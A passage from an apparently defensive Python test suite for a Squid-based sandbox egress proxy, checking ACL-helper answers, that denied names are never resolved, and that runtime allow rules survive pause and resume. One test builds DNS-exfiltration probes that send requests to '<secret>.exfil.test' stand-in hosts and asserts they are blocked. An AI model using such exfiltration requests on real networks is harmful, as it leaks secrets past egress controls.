                "[ \"$1\" = --record ] || exec %s \"$@\"\n"
                "while read -r line; do echo \"$line\" >> %s; cat %s; done\n"
                % (os.path.join(BUILD_DIR, "sandbox-egress-acl"), asked, answer))
    os.chmod(wrapper, 0o755)
    open(asked, "w").close()
    os.chmod(asked, 0o666)
    sq.stop_squid()
    sq.write_conf(EGRESS_ACL_HELPER=wrapper)
    for word in ("ERR", "BH message=test", "OK"):
        with open(answer, "w") as f:
            f.write(word + "\n")
        os.chmod(answer, 0o644)
        sq.start_squid()  # a fresh Squid: no helper state carried between answers
        seen = len(open(asked).read().splitlines())
        tag = "logger-" + word.split()[0]
        got = refuse(sb, lease, upstreams, tag)
        assert got["port"].startswith("HTTP/1.1 403"), (word, got)
        assert got["address"].startswith("HTTP/1.1 403"), (word, got)
        assert "/" + tag not in SEEN, word
        # it was asked (last on the line), with the reason (Squid asks again after a BH)
        lines = open(asked).read().splitlines()[seen:]
        assert {ln.split()[2] for ln in lines} == {"port", "address"}, (word, lines)
        assert len(lines) >= 2 if word.startswith("BH") else len(lines) == 2, (word, lines)
        sq.stop_squid()
    sq.start_squid()


PROBE = r"""
import socket, sys
def talk(data):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(data)
    out = b""
    while b"\r\n\r\n" not in out and len(out) < 4096:
        b = s.recv(4096)
        if not b: break
        out += b
    s.close()
    return out.split(b"\r\n")[0].decode(errors="replace")
# each argument: "GET <host:port>" or "CONNECT <host:port>"
for i, a in enumerate(sys.argv[1:]):
    method, target = a.split(" ", 1)
    if method == "CONNECT":
        req = "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)
    else:
        req = "GET http://%s/leak HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)
    print(i, talk(req.encode()))
"""


def probe(sb, lease, *requests):
    """Raw proxy requests from inside the sandbox ("GET host:port" or
    "CONNECT host:port"), through its 127.0.0.1:3128: their status lines."""
    r = sb.run(lease, "python3 /tmp/probe.py " + " ".join("'%s'" % q for q in requests))
    lines = r["stdout"].splitlines()
    assert len(lines) == len(requests), r
    return [ln.split(" ", 1)[1] for ln in lines]


def ptr_name(sid):
    """The reverse-lookup name of a sandbox's identity address (its id as IPv6)."""
    return ".".join(reversed(sid.lower())) + ".ip6.arpa"


def test_denied_names_are_never_resolved(egress, upstreams):
    """The policy decides before anything is resolved (issue 24): a deny-all
    sandbox asking for http://<secret>.exfil.test/ and CONNECT
    <secret>.exfil.test:443 (an exfiltration through DNS: the name is the
    data) gets 403 and no query carrying the secret reaches a resolver (the
    test's own is Squid's only one and records every query); nor does a name
    the resolver knows, denied by the policy. Meanwhile another sandbox's
    allowed name is resolved and fetched. No reverse lookup of either
    sandbox's identity address reaches the resolver. Then, with loopback
    refused: a name the policy denies that would resolve to 127.0.0.1 is a
    policy deny and never resolved; an allowed one is resolved, then refused
    for its address."""
    sb, sq = egress()
    la, a = setup_sandbox(sb, upstreams, "u1", "s1")  # the exfiltrating one: deny all
    lb, b = setup_sandbox(sb, upstreams, "u2", "s2")  # the other: allowed.test only
    set_policy(sb, a)
    set_policy(sb, b, allow=["allowed.test"])
    for lease in (la, lb):
        assert sb.write(lease, "/tmp/probe.py", PROBE.encode()).status == 200
    secret = "secret" + os.urandom(6).hex()
    hp, sp = upstreams["http"], upstreams["https"]
    leaks = ["GET %s1.exfil.test" % secret, "CONNECT %s2.exfil.test:443" % secret,
             "GET %s3.exfil.test:%d" % (secret, hp), "CONNECT %s4.exfil.test:%d" % (secret, sp),
             "GET denied.test:%d" % hp, "CONNECT denied.test:%d" % sp]
    got = probe(sb, la, *leaks[:3])
    # the other sandbox, between the attempts: its allowed name works
    mid = fetch(sb, lb, *urls(upstreams, "allowed.test"))
    got += probe(sb, la, *leaks[3:])
    assert all(g.startswith("HTTP/1.1 403") for g in got), list(zip(leaks, got))
    assert mid[0].startswith("OK 200 hello allowed.test") and \
        mid[1].startswith("OK 200 hello allowed.test"), mid
    # the real client (urllib through the environment's proxy) fails the same way
    bad = fetch(sb, la, "http://%s5.exfil.test:%d/x" % (secret, hp),
                "https://%s6.exfil.test:%d/y" % (secret, sp))
    assert all(g.startswith("FAIL") for g in bad), bad
    assert "/leak" not in SEEN

    q = sq.resolver.queries()
    assert not sq.resolver.names_asked(secret), q
    assert not sq.resolver.names_asked("exfil"), q
    assert not sq.resolver.names_asked("denied.test"), q
    assert ("allowed.test", "A") in q, q  # resolved after the policy said yes
    for sid in (a, b):
        assert not sq.resolver.names_asked(ptr_name(sid)), q
    assert not sq.reverse_lookups(), q

    # each attempt is one policy deny, with the name as the sandbox wrote it
    want = {"%s%d.exfil.test" % (secret, i) for i in range(1, 7)}
    wait_until(lambda: want <= {r["EGRESS_HOST"] for r in decisions(sq, a, EGRESS_REASON="policy")},
               10, desc="the policy denies recorded")
    assert not decisions(sq, a, EGRESS_VERDICT="allow"), decisions(sq, a)

    # loopback refused: the policy still comes first
    sq.stop_squid()
    sq.write_conf(EGRESS_ALLOW_LOOPBACK="0")
    sq.start_squid()
    before = len([x for x in sq.resolver.queries() if x == ("allowed.test", "A")])
    got = probe(sb, lb, "GET loop.test:%d" % hp, "GET allowed.test:%d" % hp)
    assert got[0].startswith("HTTP/1.1 403") and got[1].startswith("HTTP/1.1 403"), got
    assert not sq.resolver.names_asked("loop.test"), sq.resolver.queries()
    assert len([x for x in sq.resolver.queries() if x == ("allowed.test", "A")]) > before
    wait_until(lambda: decisions(sq, b, EGRESS_HOST="loop.test") and
               decisions(sq, b, EGRESS_HOST="allowed.test", EGRESS_REASON="address"), 10,
               desc="the loopback case recorded")
    assert [r["EGRESS_REASON"] for r in decisions(sq, b, EGRESS_HOST="loop.test")] == ["policy"]
    assert not sq.reverse_lookups(), sq.resolver.queries()


GET_ONE = r"""
import sys, urllib.request
try:
    with urllib.request.urlopen(sys.argv[1], timeout=10) as r:
        print("OK", r.status, r.read().decode()[:80])
except Exception as e:
    print("FAIL", type(e).__name__, str(e)[:120].replace("\n", " "))
"""


@both_runtimes
def test_runtime_rules_survive_pause_resume(egress, upstreams):
    """A rule added at run time through the egress API (PATCH /policy on the
    sandbox's 18080 endpoint) lets traffic out at once, and still does after
    a pause and resume of the OpenSandbox sandbox; what it does not name stays
    denied. Requests are made inside the container (docker exec: its own
    environment's proxy, network none)."""
    from sdklib import API_KEYS_ENV, OSB, container
    sb, sq = egress(OPENSANDBOX_API_KEYS=API_KEYS_ENV)
    o = OSB(sb.b, "alpha")
    sid = o.create(networkPolicy={"defaultAction": "deny", "egress": []})
    ep = o.endpoint(sid, 18080)
    assert ep.status == 200, ep
    path = "/" + ep.json["endpoint"].split("/", 1)[1] + "/policy"
    headers = dict(ep.json.get("headers") or {}, **{"Content-Type": "application/json"})
    allowed = "http://allowed.test:%d/pr" % upstreams["http"]
    denied = "http://denied.test:%d/pr" % upstreams["http"]

    def get(url):
        c = container(sb.b, sid)
        assert c and c["State"]["Running"], c
        r = subprocess.run(["docker", "exec", c["Id"], "python3", "-c", GET_ONE, url],
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r
        return r.stdout.strip()

    # denied by Squid (403), not merely unreachable while the relay comes up
    wait_until(lambda: get(allowed).startswith("FAIL HTTPError HTTP Error 403"), 10,
               interval=0.2, desc="the deny-all policy answering 403")
    r = http_request(sb.b.port, "PATCH", path,
                     json.dumps([{"action": "allow", "target": "allowed.test"}]), headers)
    assert r.status == 200, r
    wait_until(lambda: get(allowed).startswith("OK 200"), 10, interval=0.2,
               desc="the PATCHed rule in effect")

    assert o.pause(sid).status in (200, 202, 204)
    o.wait_state(sid, "Paused")
    assert o.resume(sid).status in (200, 202, 204)
    o.wait_state(sid, "Running")
    assert get(allowed).startswith("OK 200 hello allowed.test"), sq.access_log()
    assert get(denied).startswith("FAIL"), sq.access_log()
    r = http_request(sb.b.port, "GET", path, None, headers)
    assert r.status == 200 and r.json["policy"]["egress"] == \
        [{"action": "allow", "target": "allowed.test"}], r
